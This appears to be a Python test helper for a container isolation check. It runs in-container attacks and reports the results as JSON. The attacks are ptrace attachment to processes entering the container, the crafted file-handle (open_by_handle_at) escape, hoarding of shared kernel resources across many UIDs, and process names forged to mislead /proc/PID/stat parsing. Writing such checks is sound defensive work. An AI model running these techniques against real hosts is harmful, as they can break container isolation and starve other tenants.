"""Attacks on the kernel and the container runtime that root in a container could try. The isolation check runs them inside a
sandbox. Prints one JSON object. The first argument names the attack:

trace              attaches to whatever enters the container, until /tmp/stop exists: {"ready"}, then {"attached", "foreign"}: how
                   many there were, and how many had capabilities or a user namespace that the container does not have
handles            opens files by handle, without a path: {"opened": [...]}
hoard SECONDS      takes kernel resources that all containers share, as several users, and holds them: {"held": {kind: count}}
take               how many of them are left for another container: {"taken": {kind: count}}
directory          whether its working directory is outside the container: {"outside": bool}
forge SECONDS      starts processes whose names look like fields of /proc/PID/stat: {"forged": [pid, ...]}
alive PID...       how many of them run, and whether the command that was to be killed runs: {"alive": count, "late": bool}
"""

import ctypes
import json
import os
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_SEIZE, PTRACE_INTERRUPT, PTRACE_DETACH = 0x4206, 0x4207, 17
WAIT_FOR_ALL = 0x40000000
HOARDERS, USERS = 4, 8
ENOUGH = 4
MOST = 2048
STOP = "/tmp/stop"


def say(**values):
    print(json.dumps(values), flush=True)


def field(pid, name):
    with open(f"/proc/{pid}/status", "rb") as status:
        return next(int(line.split(b":")[1], 16) for line in status.read(65536).split(b"\n") if line.startswith(name + b":"))


def user_namespace(pid):
    try:
        return os.readlink(f"/proc/{pid}/ns/user")
    except OSError:
        return None


def let_go(pid):
    """Detaches. A process must be stopped for that; one that stays attached would keep its parent waiting for ever."""
    libc.ptrace(PTRACE_INTERRUPT, pid, None, None)
    try:
        os.waitpid(pid, WAIT_FOR_ALL)
    except ChildProcessError:
        return
    libc.ptrace(PTRACE_DETACH, pid, None, None)


def attach(pid, own):
    """Returns None where a process cannot be traced, else whether tracing it gains any privilege."""
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) != 0:
        return None
    try:
        gained = field(pid, b"CapEff") & ~own["capabilities"]
        return gained != 0 or user_namespace(pid) not in (own["namespace"], None)
    except (OSError, StopIteration):
        return False  # it ended
    finally:
        let_go(pid)


def trace():
    own = {"capabilities": field("self", b"CapBnd"), "namespace": user_namespace("self")}
    known, attached = set(os.listdir("/proc")), []
    say(ready=True)
    while not os.path.exists(STOP):
        for name in set(os.listdir("/proc")) - known:
            if name.isdigit() and (foreign := attach(int(name), own)) is not None:
                attached.append(foreign)
                known.add(name)  # the others are tried again until it works or they have ended
    say(attached=len(attached), foreign=sum(attached))


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def handles():
    """Tries inode 2, the root of most file systems, and a handle of its own root, to show that the kernel supports handles."""
    opened = []
    for path in ("/", "/etc/hostname", "/etc/resolv.conf"):
        mount = os.open(path, os.O_RDONLY)
        own, crafted, mount_id = Handle(bytes=128), Handle(bytes=8, type=1), ctypes.c_int()
        crafted.data[0] = 2
        tries = [crafted]
        if libc.name_to_handle_at(-100, path.encode(), ctypes.byref(own), ctypes.byref(mount_id), 0) == 0:
            tries.append(own)
        for handle in tries:
            found = libc.open_by_handle_at(mount, ctypes.byref(handle), os.O_RDONLY)
            if found >= 0:
                opened.append(path)
                os.close(found)
        os.close(mount)
    say(opened=opened)


def watch():
    found = libc.inotify_init1(0)
    if found < 0:
        raise OSError(ctypes.get_errno(), "inotify")
    return found


def terminal():
    return os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)


def asynchronous():
    io_setup = {"x86_64": 206, "aarch64": 0}
    context = ctypes.c_ulong()
    if libc.syscall(io_setup[os.uname().machine], 4096, ctypes.byref(context)) != 0:
        raise OSError(ctypes.get_errno(), "aio")
    return context


KINDS = {"inotify": watch, "terminals": terminal, "aio": asynchronous}


def grab(kind, most):
    held = []
    try:
        while len(held) < most:
            held.append(KINDS[kind]())
    except OSError:
        pass
    return held


def hoard_as(user):
    held = {}
    for kind in KINDS:
        held[kind] = []
        for step in range(USERS):
            try:
                os.seteuid(0)
                os.seteuid(user * USERS + step)
            except OSError:
                pass
            held[kind] += grab(kind, MOST - len(held[kind]))
    return held


def hoard(seconds):
    pipes = []
    for user in range(HOARDERS):
        reader, writer = os.pipe()
        if os.fork() == 0:
            held = hoard_as(user)
            os.write(writer, json.dumps({kind: len(values) for kind, values in held.items()}).encode())
            time.sleep(seconds)
            os._exit(0)
        os.close(writer)
        pipes.append(reader)
    counts = [json.loads(os.read(reader, 4096)) for reader in pipes]
    say(held={kind: sum(count[kind] for count in counts) for kind in KINDS})
    while True:
        try:
            os.wait()
        except ChildProcessError:
            return


def take():
    say(taken={kind: len(grab(kind, ENOUGH)) for kind in KINDS})


def directory():
    try:
        say(outside=os.getcwd().startswith("(unreachable)"))
    except OSError:
        say(outside=True)


# Each imitates the end of a process name in /proc/PID/stat, followed by fields that name pid 1 or no process as group leader.
FORGED = [b") R 1 1 1 0 1", b" 1 1 0 1\n", b"\n1 1 1 1 1", b"x\r) S 1 1 1", b"(deleted) 1", b"\xff\n-1 -1 -1"]
PR_SET_NAME = 15
TO_BE_KILLED = b"sleep\x0086398\x00"


def forge(seconds):
    def child(name):
        pid = os.fork()
        if pid == 0:
            os.setpgid(0, 0)
            libc.prctl(PR_SET_NAME, name, 0, 0, 0)
            time.sleep(seconds)
            os._exit(0)
        return pid

    say(forged=[child(name) for name in FORGED])
    time.sleep(seconds)


def alive(pids):
    def command(name):
        try:
            with open(f"/proc/{name}/cmdline", "rb") as line:
                return line.read(4096)
        except OSError:
            return b""

    running = {name: command(name) for name in os.listdir("/proc") if name.isdigit()}
    say(alive=sum(bool(running.get(pid)) for pid in pids), late=TO_BE_KILLED in running.values())


{
    "trace": trace,
    "handles": handles,
    "hoard": lambda: hoard(float(sys.argv[2])),
    "take": take,
    "directory": directory,
    "forge": lambda: forge(float(sys.argv[2])),
    "alive": lambda: alive(sys.argv[2:]),
}[sys.argv[1]]()
